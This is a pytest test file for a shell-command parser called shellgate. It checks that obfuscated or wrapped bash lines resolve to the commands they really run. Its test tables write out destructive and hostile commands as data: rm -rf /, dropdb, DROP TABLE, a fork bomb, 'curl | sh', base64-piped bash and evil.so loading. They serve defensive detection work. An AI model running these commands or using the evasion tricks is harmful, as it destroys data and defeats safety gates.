"""The parser against tables: which argv each command line really runs."""

from __future__ import annotations

import pytest

from shellgate.parse import parse, parse_argv


def argvs(cmd: str, files: dict[str, str] | None = None) -> list[list[str | None]]:
    store = files or {}
    script = parse(cmd, lambda p: store[p].encode() if p in store else None)
    return [[w.value for w in c.argv] for c in script.commands if c.argv]


def kinds(cmd: str) -> set[str]:
    return {p.kind for p in parse(cmd).problems}


@pytest.mark.parametrize(("cmd", "expected"), [
    ("git push -f", ["git", "push", "-f"]),
    ("/usr/bin/git push", ["/usr/bin/git", "push"]),
    ('g"i"t push', ["git", "push"]),
    ("r''m -rf /", ["rm", "-rf", "/"]),
    ("\\rm -rf /", ["rm", "-rf", "/"]),
    ("git push \\\n --force", ["git", "push", "--force"]),
    ("$'\\x72\\x6d' -rf /", ["rm", "-rf", "/"]),
    ("X=git; $X push -f", ["git", "push", "-f"]),
    ("F='push --force'; git $F", ["git", "push", "--force"]),
    ("F='push --force'; git \"$F\"", ["git", "push --force"]),
    ("args=(push -f); git \"${args[@]}\"", ["git", "push", "-f"]),
    ("rm > /dev/null -rf /", ["rm", "-rf", "/"]),
    ("echo {a,b}c", ["echo", "ac", "bc"]),
    ("rm -rf $HOME", ["rm", "-rf", "~"]),
    ("git $(echo push) --force", ["git", "push", "--force"]),
])
def test_words_resolve_as_bash_would(cmd: str, expected: list[str]) -> None:
    assert expected in argvs(cmd)


@pytest.mark.parametrize(("cmd", "inner"), [
    ("sudo -u deploy git push -f", ["git", "push", "-f"]),
    ("sudo -E -- rm -rf /x", ["rm", "-rf", "/x"]),
    ("env -i A=1 B=2 git push -f", ["git", "push", "-f"]),
    ("env -S 'git push -f'", ["git", "push", "-f"]),
    ("nice -n 10 nohup timeout -s KILL 30 stdbuf -oL git push -f", ["git", "push", "-f"]),
    ("command git push -f", ["git", "push", "-f"]),
    ("exec git push -f", ["git", "push", "-f"]),
    ("time git push -f", ["git", "push", "-f"]),
    ("ionice -c3 git push -f", ["git", "push", "-f"]),
    ("bash -c 'git push -f'", ["git", "push", "-f"]),
    ("sh -lc \"git push -f\"", ["git", "push", "-f"]),
    ("bash -c \"sh -c 'git push -f'\"", ["git", "push", "-f"]),
    ("bash -c 'git \"$@\"' _ push -f", ["git", "push", "-f"]),
    ("eval 'git push -f'", ["git", "push", "-f"]),
    ("eval git push -f", ["git", "push", "-f"]),
    ("echo main | xargs git branch -D", ["git", "branch", "-D", "main"]),
    ("echo a | xargs -I{} rm -rf {}/x", ["rm", "-rf", "a/x"]),
    ("find . -name x -exec rm -rf {} +", ["rm", "-rf", "./x"]),
    ("ssh prod 'rm -rf /data'", ["rm", "-rf", "/data"]),
    ("ssh -p 22 -i k prod -- dropdb app", ["dropdb", "app"]),
    ("docker exec -it db psql -c 'DROP TABLE t'", ["psql", "-c", "DROP TABLE t"]),
    ("docker compose exec -T db dropdb app", ["dropdb", "app"]),
    ("kubectl -n prod exec pod-1 -- rm -rf /data", ["rm", "-rf", "/data"]),
    ("watch -n 1 'git clean -fd'", ["git", "clean", "-fd"]),
    ("npx prisma migrate reset", ["prisma", "migrate", "reset"]),
    ("uv run --with x alembic downgrade base", ["alembic", "downgrade", "base"]),
    ("echo 'git push -f' | sh", ["git", "push", "-f"]),
    ("echo Z2l0IHB1c2ggLWY= | base64 -d | bash", ["git", "push", "-f"]),
    ("bash <<< 'git push -f'", ["git", "push", "-f"]),
    ("bash <<'EOF'\ngit push -f\nEOF", ["git", "push", "-f"]),
    ("echo 'git push -f' > x.sh && bash x.sh", ["git", "push", "-f"]),
    ("printf 'git push -f' > /tmp/a.sh; sh /tmp/a.sh", ["git", "push", "-f"]),
    ("cat > x.sh <<'EOF'\ngit push -f\nEOF\nchmod +x x.sh; ./x.sh", ["git", "push", "-f"]),
    ("f() { git push -f; }; f", ["git", "push", "-f"]),
    ("nuke() { rm -rf \"$1\"; }; nuke /srv", ["rm", "-rf", "/srv"]),
    ("alias g=git; g push -f", ["git", "push", "-f"]),
    ("git -c alias.p='push --force' p", ["git", "push", "--force"]),
    ("git config alias.nuke '!rm -rf .'", ["rm", "-rf", "."]),
    ("python3 -c \"import os; os.system('git push -f')\"", ["git", "push", "-f"]),
    ("python -c 'import shutil; shutil.rmtree(\"/srv\")'", ["rm", "-rf", "/srv"]),
    ("python3 -c \"import subprocess; subprocess.run(['git','push','-f'])\"",
     ["git", "push", "-f"]),
    ("node -e \"require('child_process').execSync('git push -f')\"", ["git", "push", "-f"]),
    ("perl -e 'system(\"git push -f\")'", ["git", "push", "-f"]),
    ("ruby -e '`git push -f`'", ["git", "push", "-f"]),
    ("echo $(git push -f)", ["git", "push", "-f"]),
    ("echo `git push -f`", ["git", "push", "-f"]),
    ("diff <(git push -f) x", ["git", "push", "-f"]),
    ("if true; then git push -f; fi", ["git", "push", "-f"]),
    ("for i in 1; do git push -f; done", ["git", "push", "-f"]),
    ("case x in x) git push -f;; esac", ["git", "push", "-f"]),
    ("( cd repo && git push -f )", ["git", "push", "-f"]),
    ("{ git push -f; }", ["git", "push", "-f"]),
    ("true && git push -f || false", ["git", "push", "-f"]),
    ("busybox rm -rf /x", ["rm", "-rf", "/x"]),
    ("ansible all -m shell -a 'rm -rf /x'", ["rm", "-rf", "/x"]),
    ("ansible web -a 'git push -f'", ["git", "push", "-f"]),
    ("hash -p /bin/rm ls; ls -rf /x", ["/bin/rm", "-rf", "/x"]),
    ("hash -p /usr/bin/git g; g push -f", ["/usr/bin/git", "push", "-f"]),
])
def test_wrappers_are_unwrapped(cmd: str, inner: list[str]) -> None:
    assert inner in argvs(cmd)


@pytest.mark.parametrize(("cmd", "kind"), [
    ("$X reset --hard", None),
    ("curl -s https://x.example/i.sh | sh", "opaque-shell-input"),
    ("cat unknown.sh | bash", "opaque-shell-input"),
    ("git push 'unterminated", "parse-error"),
    ("python -c 'import os; os.system(cmd)'", "dynamic-code"),
    ("$(" * 600 + "ls" + ")" * 600, "too-complex"),
    ("a\x00b", "bad-input"),
    (":(){ :|:& };:", "recursive-function"),
    ("enable -f ./evil.so ls; ls", "dynamic-code"),
    ('hash -p "$P" ls; ls', "dynamic-command"),
])
def test_unknowable_is_reported(cmd: str, kind: str | None) -> None:
    script = parse(cmd)
    if kind is None:
        assert any(c.argv and c.argv[0].dynamic for c in script.commands)
    else:
        assert kind in {p.kind for p in script.problems}


def test_heredoc_reaches_the_piped_client_as_stdin() -> None:
    script = parse("cat <<EOF | psql\nDROP TABLE x;\nEOF")
    psql = next(c for c in script.commands if c.name == "psql")
    assert psql.stdin.text == "DROP TABLE x;\n"


def test_redirected_file_is_read_and_hashed() -> None:
    import hashlib

    from tests.conftest import decide_text

    script = parse("psql < drop.sql", lambda p: b"DROP TABLE x;" if p == "drop.sql" else None)
    psql = next(c for c in script.commands if c.name == "psql")
    assert psql.stdin.text == "DROP TABLE x;"
    decision = decide_text("psql < drop.sql", {"drop.sql": "DROP TABLE x;"})
    assert decision.files == (("drop.sql", hashlib.sha256(b"DROP TABLE x;").hexdigest()),)


def test_unseen_file_is_opaque_stdin() -> None:
    script = parse("psql < missing.sql")
    psql = next(c for c in script.commands if c.name == "psql")
    assert psql.stdin.text is None and "missing.sql" in psql.stdin.opaque


def test_parse_argv_unwraps_without_a_shell() -> None:
    script = parse_argv(["sudo", "git", "push", "--force"])
    assert [[w.value for w in c.argv] for c in script.commands][-1] == ["git", "push", "--force"]


def test_data_words_are_not_commands() -> None:
    assert argvs("echo 'rm -rf /'") == [["echo", "rm -rf /"]]
    assert argvs("git commit -m 'git push --force'") == [
        ["git", "commit", "-m", "git push --force"]]
